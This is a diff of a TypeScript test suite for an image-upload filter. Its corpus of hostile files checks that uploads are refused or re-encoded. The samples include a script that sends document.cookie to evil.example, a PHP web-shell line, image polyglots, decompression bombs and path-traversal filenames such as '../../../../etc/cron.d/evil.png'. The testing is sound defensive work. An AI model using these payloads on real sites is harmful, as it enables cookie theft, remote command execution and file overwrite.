@@ -64,9 +64,7 @@ async function pngWith(extra: Buffer[]): Promise<Buffer> {
 
 /** A small photo-like image: a blue page with a red block. */
 const photo = () =>
-  sharp({ create: { width: 320, height: 240, channels: 3, background: '#3366aa' } }).composite([
-    { input: { create: { width: 80, height: 60, channels: 3, background: '#ff0000' } }, left: 0, top: 0 },
-  ]);
+  sharp({ create: { width: 320, height: 240, channels: 3, background: '#3366aa' } }).composite([{ input: { create: { width: 80, height: 60, channels: 3, background: '#ff0000' } }, left: 0, top: 0 }]);
 
 /** A ZIP archive of one stored file, written by hand: readers find it from its end, whatever comes before it. */
 function zipOf(name: string, content: Buffer): Buffer {
@@ -119,7 +117,11 @@ async function jpegWithComment(text: string): Promise<Buffer> {
 
 /** A JPEG whose frame header (SOF) declares width × height, the rest of it unchanged. */
 async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
-  const jpeg = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } }).jpeg().toBuffer());
+  const jpeg = Buffer.from(
+    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } })
+      .jpeg()
+      .toBuffer(),
+  );
   for (let i = 2; i < jpeg.length - 9; i++) {
     if (jpeg[i] === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2)) {
       jpeg.writeUInt16BE(height, i + 5);
@@ -145,7 +147,12 @@ const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</scrip
 const HTML = `<!DOCTYPE html><html><body onload="alert(1)">${SCRIPT}</body></html>`;
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(1)">${SCRIPT}<rect width="200" height="200" fill="#3366aa"/></svg>`;
 /** The start of a Windows executable: the DOS header and its stub's sentence. */
-const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(50), Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'), randomBytes(2000)]);
+const EXE = Buffer.concat([
+  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
+  Buffer.alloc(50),
+  Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'),
+  randomBytes(2000),
+]);
 
 /** Byte sequences of the hostile payloads: none may be in what is stored or served. */
 const PAYLOADS = ['<script', '<html', '<svg', 'onload', '<?php', 'PK\x03\x04', 'PK\x05\x06', 'This program cannot be run', 'evil.example'];
@@ -167,25 +174,106 @@ interface Item {
 
 const CORPUS: Item[] = [
   // Polyglots: an image that is also something else.
-  { label: 'a PNG with an HTML page and a script after its end', bytes: async () => Buffer.concat([await photo().png().toBuffer(), Buffer.from(HTML)]), filename: 'uitwerking.png', type: 'image/png', outcome: { reencoded: 'png' } },
-  { label: 'a PNG that is also a ZIP archive (with an HTML file in it)', bytes: async () => zipAfter(await photo().png().toBuffer(), zipOf('index.html', Buffer.from(HTML))), filename: 'uitwerking.png', type: 'image/png', outcome: { reencoded: 'png' } },
-  { label: 'a PNG with script and HTML in its text chunks', bytes: () => pngWith([pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`, 'latin1')), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`, 'latin1'))]), filename: 'uitwerking.png', type: 'image/png', outcome: { reencoded: 'png' } },
+  {
+    label: 'a PNG with an HTML page and a script after its end',
+    bytes: async () => Buffer.concat([await photo().png().toBuffer(), Buffer.from(HTML)]),
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { reencoded: 'png' },
+  },
+  {
+    label: 'a PNG that is also a ZIP archive (with an HTML file in it)',
+    bytes: async () => zipAfter(await photo().png().toBuffer(), zipOf('index.html', Buffer.from(HTML))),
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { reencoded: 'png' },
+  },
+  {
+    label: 'a PNG with script and HTML in its text chunks',
+    bytes: () => pngWith([pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`, 'latin1')), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`, 'latin1'))]),
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { reencoded: 'png' },
+  },
   { label: 'a JPEG with HTML in a comment segment', bytes: () => jpegWithComment(HTML), filename: 'IMG_2043.jpg', type: 'image/jpeg', outcome: { reencoded: 'jpeg' } },
-  { label: 'a JPEG with PHP after its end', bytes: async () => Buffer.concat([await photo().jpeg().toBuffer(), Buffer.from('<?php system($_GET["c"]); ?>')]), filename: 'IMG_2044.jpg', type: 'image/jpeg', outcome: { reencoded: 'jpeg' } },
-  { label: 'an HTML page behind a PNG signature', bytes: () => Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]), filename: 'uitwerking.png', type: 'image/png', outcome: { refused: MESSAGES.unreadable } },
-  { label: 'a GIF that is also JavaScript (GIF89a=…)', bytes: () => Buffer.from(`GIF89a=1;${SCRIPT.replace(/<\/?script>/g, '')}`), filename: 'uitwerking.gif', type: 'image/gif', outcome: { refused: MESSAGES.notAnImage } },
+  {
+    label: 'a JPEG with PHP after its end',
+    bytes: async () => Buffer.concat([await photo().jpeg().toBuffer(), Buffer.from('<?php system($_GET["c"]); ?>')]),
+    filename: 'IMG_2044.jpg',
+    type: 'image/jpeg',
+    outcome: { reencoded: 'jpeg' },
+  },
+  {
+    label: 'an HTML page behind a PNG signature',
+    bytes: () => Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]),
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { refused: MESSAGES.unreadable },
+  },
+  {
+    label: 'a GIF that is also JavaScript (GIF89a=…)',
+    bytes: () => Buffer.from(`GIF89a=1;${SCRIPT.replace(/<\/?script>/g, '')}`),
+    filename: 'uitwerking.gif',
+    type: 'image/gif',
+    outcome: { refused: MESSAGES.notAnImage },
+  },
   // SVG with script.
   { label: 'an SVG with a script', bytes: () => Buffer.from(SVG), filename: 'tekening.svg', type: 'image/svg+xml', outcome: { refused: MESSAGES.notAnImage } },
   { label: 'an SVG with a script named .png', bytes: () => Buffer.from(SVG), filename: 'tekening.png', type: 'image/png', outcome: { refused: MESSAGES.notAnImage } },
-  { label: 'an SVG behind an XML declaration and a BOM, named .jpg', bytes: () => Buffer.from(`\ufeff<?xml version="1.0"?>${SVG}`), filename: 'foto.jpg', type: 'image/jpeg', outcome: { refused: MESSAGES.notAnImage } },
+  {
+    label: 'an SVG behind an XML declaration and a BOM, named .jpg',
+    bytes: () => Buffer.from(`\ufeff<?xml version="1.0"?>${SVG}`),
+    filename: 'foto.jpg',
+    type: 'image/jpeg',
+    outcome: { refused: MESSAGES.notAnImage },
+  },
   // Truncated images.
-  { label: 'a PNG cut off in its pixels', bytes: async () => { const png = await photo().png().toBuffer(); return png.subarray(0, Math.floor(png.length / 2)); }, filename: 'uitwerking.png', type: 'image/png', outcome: { refused: MESSAGES.unreadable } },
-  { label: 'a PNG with a header and no pixels', bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(640, 480), pngChunk('IEND', Buffer.alloc(0))]), filename: 'uitwerking.png', type: 'image/png', outcome: { refused: MESSAGES.unreadable } },
-  { label: 'a JPEG cut off at 60 %', bytes: async () => { const jpeg = await photo().jpeg().toBuffer(); return jpeg.subarray(0, Math.floor(jpeg.length * 0.6)); }, filename: 'IMG_2045.jpg', type: 'image/jpeg', outcome: { refused: MESSAGES.unreadable } },
+  {
+    label: 'a PNG cut off in its pixels',
+    bytes: async () => {
+      const png = await photo().png().toBuffer();
+      return png.subarray(0, Math.floor(png.length / 2));
+    },
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { refused: MESSAGES.unreadable },
+  },
+  {
+    label: 'a PNG with a header and no pixels',
+    bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(640, 480), pngChunk('IEND', Buffer.alloc(0))]),
+    filename: 'uitwerking.png',
+    type: 'image/png',
+    outcome: { refused: MESSAGES.unreadable },
+  },
+  {
+    label: 'a JPEG cut off at 60 %',
+    bytes: async () => {
+      const jpeg = await photo().jpeg().toBuffer();
+      return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
+    },
+    filename: 'IMG_2045.jpg',
+    type: 'image/jpeg',
+    outcome: { refused: MESSAGES.unreadable },
+  },
   // Pixel floods: huge dimensions in a tiny file.
-  { label: 'a PNG declaring 100000 × 100000 pixels in 60 bytes', bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(100_000, 100_000), pngChunk('IEND', Buffer.alloc(0))]), filename: 'groot.png', type: 'image/png', outcome: { refused: MESSAGES.tooManyPixels } },
+  {
+    label: 'a PNG declaring 100000 × 100000 pixels in 60 bytes',
+    bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(100_000, 100_000), pngChunk('IEND', Buffer.alloc(0))]),
+    filename: 'groot.png',
+    type: 'image/png',
+    outcome: { refused: MESSAGES.tooManyPixels },
+  },
   { label: 'a JPEG declaring 65000 × 65000 pixels in under 1 kB', bytes: () => jpegDeclaring(65_000, 65_000), filename: 'groot.jpg', type: 'image/jpeg', outcome: { refused: MESSAGES.tooManyPixels } },
-  { label: 'a PNG of 8000 × 6500 pixels (52 megapixels), one colour', bytes: () => sharp({ create: { width: 8000, height: 6500, channels: 3, background: '#ffffff' } }).png().toBuffer(), filename: 'wit.png', type: 'image/png', outcome: { refused: MESSAGES.tooManyPixels } },
+  {
+    label: 'a PNG of 8000 × 6500 pixels (52 megapixels), one colour',
+    bytes: () =>
+      sharp({ create: { width: 8000, height: 6500, channels: 3, background: '#ffffff' } })
+        .png()
+        .toBuffer(),
+    filename: 'wit.png',
+    type: 'image/png',
+    outcome: { refused: MESSAGES.tooManyPixels },
+  },
   // Decompression bombs.
   { label: 'a PNG of 900 megapixels in 110 kB', bytes: pixelBombPng, filename: 'bom.png', type: 'image/png', outcome: { refused: MESSAGES.tooManyPixels } },
   { label: 'a PNG with a text chunk that inflates to 300 MB', bytes: () => pngWith([zTxtBomb()]), filename: 'bom.png', type: 'image/png', outcome: { reencoded: 'png' } },
@@ -193,10 +281,31 @@ const CORPUS: Item[] = [
   // Wrong names and types: the bytes decide.
   { label: 'a Windows executable sent as image/png', bytes: () => EXE, filename: 'foto.png', type: 'image/png', outcome: { refused: MESSAGES.notAnImage } },
   { label: 'an executable named with a double extension', bytes: () => EXE, filename: 'foto.jpg.exe', type: 'application/x-msdownload', outcome: { refused: MESSAGES.notAnImage } },
-  { label: 'a real PNG named setup.exe, sent as an executable', bytes: () => photo().png().toBuffer(), filename: 'setup.exe', type: 'application/x-msdownload', outcome: { reencoded: 'png' }, plain: true },
+  {
+    label: 'a real PNG named setup.exe, sent as an executable',
+    bytes: () => photo().png().toBuffer(),
+    filename: 'setup.exe',
+    type: 'application/x-msdownload',
+    outcome: { reencoded: 'png' },
+    plain: true,
+  },
   { label: 'a real JPEG named foto.php.jpg, sent as text/html', bytes: () => photo().jpeg().toBuffer(), filename: 'foto.php.jpg', type: 'text/html', outcome: { reencoded: 'jpeg' }, plain: true },
-  { label: 'a real PNG named with a path out of the upload folder', bytes: () => photo().png().toBuffer(), filename: '../../../../etc/cron.d/evil.png', type: 'image/png', outcome: { reencoded: 'png' }, plain: true },
-  { label: 'a real JPEG named with a Windows path and a NUL', bytes: () => photo().jpeg().toBuffer(), filename: '..\\..\\windows\\win.ini\u0000.jpg', type: 'image/jpeg', outcome: { reencoded: 'jpeg' }, plain: true },
+  {
+    label: 'a real PNG named with a path out of the upload folder',
+    bytes: () => photo().png().toBuffer(),
+    filename: '../../../../etc/cron.d/evil.png',
+    type: 'image/png',
+    outcome: { reencoded: 'png' },
+    plain: true,
+  },
+  {
+    label: 'a real JPEG named with a Windows path and a NUL',
+    bytes: () => photo().jpeg().toBuffer(),
+    filename: '..\\..\\windows\\win.ini\u0000.jpg',
+    type: 'image/jpeg',
+    outcome: { reencoded: 'jpeg' },
+    plain: true,
+  },
 ];
 
 // ── Sending ──
